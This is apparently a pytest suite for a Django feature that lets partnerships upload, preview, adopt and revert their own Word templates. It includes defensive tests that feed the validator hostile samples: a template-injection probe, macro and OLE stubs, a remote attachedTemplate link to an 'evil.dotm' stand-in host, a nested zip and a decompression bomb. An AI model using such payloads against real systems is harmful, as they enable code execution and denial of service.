"""A partnership's own Word templates: brought, refused with a sentence, tried on a sample, used from now on, given up."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from lineofsight.engine.documents.text import extract
from lineofsight.partnership.layouts import declared
from lineofsight.partnership.models import LayoutEdition, WordTemplate
from lineofsight.trail.models import Event
from tests.deep_dives.addresses import said

pytestmark = pytest.mark.django_db


def template(*lines: str, header: str = "{{ marking }}") -> bytes:
    import docx

    word = docx.Document()
    word.sections[0].header.paragraphs[0].text = header
    for line in lines:
        word.add_paragraph(line)
    file = io.BytesIO()
    word.save(file)
    return file.getvalue()


LETTERHEAD = template("Westmere letterhead", "{{ title }}", "{{ body }}")


def page(w, name: str, *ids: object) -> str:
    from django.urls import reverse

    return reverse(f"partnership:{name}", args=[w.tenant.slug, *ids])


def bring(client, w, data: bytes, *, kind: str = "summary_report", name: str = "ours.docx"):
    return client.post(page(w, "word_template_kind", kind), {"file": SimpleUploadedFile(name, data)})


def words_of(data: bytes) -> str:
    return " ".join(" ".join(each.text for each in extract(data, "made.docx")).split())


def test_a_template_is_tried_on_a_sample_before_it_is_used_and_its_edition_is_on_record(westmere, sign_in) -> None:
    bu = sign_in(westmere.business_unit)
    assert said(bu.get(page(westmere, "word_templates"))).count("The product’s own layout") == len(declared())
    tried = bring(bu, westmere, LETTERHEAD)
    brought = WordTemplate.objects.get()
    assert tried.url == page(westmere, "try_word_template", brought.pk)
    assert not LayoutEdition.objects.exists(), "nothing follows it before it was looked at"
    shown = said(bu.get(tried.url))
    assert "Westmere letterhead" in shown and "Summary report: Neglect of children under two" in shown
    assert "Head and foot of each page: Anonymised" in shown and "Visits took place on time." in shown
    sample = bu.get(tried.url + "?file=sample")
    assert "Westmere letterhead" in words_of(sample.content) and "attachment" in sample["Content-Disposition"]
    assert bu.get(tried.url + "?file=template").content == LETTERHEAD
    assert "Tick the box to say that you have looked at the sample" in said(bu.post(tried.url, {}))
    assert not LayoutEdition.objects.exists()
    assert bu.post(tried.url, {"looked": "on"}).status_code == 302
    listed = said(bu.get(page(westmere, "word_templates")))
    assert "Your template ours.docx, since" in listed and f"chosen by {westmere.business_unit.name}" in listed
    event = Event.objects.filter(tenant_id=westmere.tenant.id, verb="choose_layout").latest("number")
    assert event.actor_id == westmere.business_unit.id


def test_going_back_to_the_products_layout_and_to_an_earlier_template(westmere, sign_in) -> None:
    bu = sign_in(westmere.business_unit)
    first = bring(bu, westmere, LETTERHEAD, name="first.docx").url
    bu.post(first, {"looked": "on"})
    bu.post(bring(bu, westmere, LETTERHEAD, name="second.docx").url, {"looked": "on"})
    assert "In use: your template second.docx" in said(bu.get(page(westmere, "word_template_kind", "summary_report")))
    bu.post(page(westmere, "word_template_kind", "summary_report"), {"do": "products_layout"})
    assert "The product’s own layout, again since" in said(bu.get(page(westmere, "word_templates")))
    bu.post(first, {"looked": "on"})
    names = [each.template.name if each.template else "" for each in LayoutEdition.objects.order_by("number")]
    assert names == ["first.docx", "second.docx", "", "first.docx"]
    assert "This layout is in use already." in said(bu.post(first, {"looked": "on"}))
    assert LayoutEdition.objects.count() == 4


@pytest.mark.parametrize(
    "kind", sorted(["summary_report", "pack", "terms_of_reference", "audit_tool", "invitation_letter"])
)
def test_each_starting_template_explains_every_field_and_works_as_it_is(westmere, sign_in, kind: str) -> None:
    bu = sign_in(westmere.business_unit)
    begin = bu.get(page(westmere, "starting_template", kind)).content
    told = words_of(begin)
    layout = declared()[kind]
    for field in layout.fields:
        assert f"{{{{ {field.name} }}}}" in told and field.words in told, field.name
    for each in layout.lists:
        assert f"for line in {each.name}" in told and each.words in told
    explained = said(bu.get(page(westmere, "word_template_kind", kind)))
    for field in layout.fields:
        assert field.words in explained
    tried = bring(bu, westmere, begin, kind=kind)
    assert tried.status_code == 302, said(tried)
    sample = words_of(bu.get(tried.url + "?file=sample").content)
    assert "notes for you" not in sample and "{" not in sample
    for field in layout.fields:
        assert field.sample in sample, field.name


@pytest.mark.parametrize(
    ("data", "name", "sentence"),
    [
        (template("{{ titel }}", "{{ body }}"), "a.docx", "There is no field “titel”; did you mean “title”?"),
        (template("{{ title }}", "{{ body }}", header="x"), "a.docx", "does not show “marking”"),
        (template("{{ title }}", "{% if title %}", "{{ body }}"), "a.docx", "is never closed"),
        (template("{{ ''.__class__ }}", "{{ title }}", "{{ body }}"), "a.docx", "are possible in a template"),
        (b"not a file of Word", "a.docx", "is not Word (.docx)"),
        (LETTERHEAD, "a.docm", "“a.docm” cannot be used here"),
    ],
)
def test_what_is_wrong_is_said_in_one_sentence_and_nothing_is_kept(westmere, sign_in, data, name, sentence) -> None:
    answer = bring(sign_in(westmere.business_unit), westmere, data, name=name)
    assert answer.status_code == 200 and sentence in said(answer), said(answer)
    assert not WordTemplate.objects.exists()


def _packed(extra: dict[str, bytes], change=lambda name, content: content) -> bytes:
    import zipfile

    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(LETTERHEAD)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for each in old.namelist():
            new.writestr(each, change(each, old.read(each)))
        for name, content in extra.items():
            new.writestr(name, content)
    return made.getvalue()


REMOTE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="https://example.org/evil.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (_packed({"word/vbaProject.bin": b"x"}), "contains macros"),
        (_packed({"word/embeddings/oleObject1.bin": b"x"}), "contains embedded objects"),
        (_packed({"word/_rels/settings.xml.rels": REMOTE}), "contains links to other files"),
        (_packed({"word/media/bomb.zip": b"PK\x03\x04nested"}), "has another file inside it"),
        (_packed({"word/media/bomb.bin": b"0" * 60_000_000}), "unpacks to far more than its size"),
    ],
    ids=["macros", "embedded", "remote template", "zip in zip", "bomb"],
)
def test_hostile_files_are_refused(westmere, sign_in, data, sentence) -> None:
    answer = bring(sign_in(westmere.business_unit), westmere, data)
    assert sentence in said(answer)
    assert not WordTemplate.objects.exists()


def test_only_the_business_unit_changes_layouts_and_another_partnership_finds_nothing(
    westmere, eastmere, sign_in
) -> None:
    tried = bring(sign_in(westmere.business_unit), westmere, LETTERHEAD).url
    scrutineer = sign_in(westmere.scrutineer)
    assert scrutineer.get(page(westmere, "word_templates")).status_code == 200
    assert "Bring a template" not in said(scrutineer.get(page(westmere, "word_templates")))
    for member in (westmere.scrutineer, westmere.leads["police"], eastmere.business_unit):
        client = sign_in(member)
        for closed in (
            page(westmere, "word_template_kind", "summary_report"),
            page(westmere, "starting_template", "summary_report"),
            tried,
        ):
            assert client.get(closed).status_code == 404
            assert client.post(closed, {"looked": "on"}).status_code == 404
    theirs = sign_in(eastmere.business_unit)
    assert theirs.get(page(eastmere, "try_word_template", WordTemplate.objects.get().pk)).status_code == 404
    assert "ours.docx" not in said(theirs.get(page(eastmere, "word_template_kind", "summary_report")))
    assert not LayoutEdition.objects.exists()


def test_a_kind_of_document_that_does_not_exist_is_not_found(westmere, sign_in) -> None:
    assert sign_in(westmere.business_unit).get(page(westmere, "word_template_kind", "nonsense")).status_code == 404
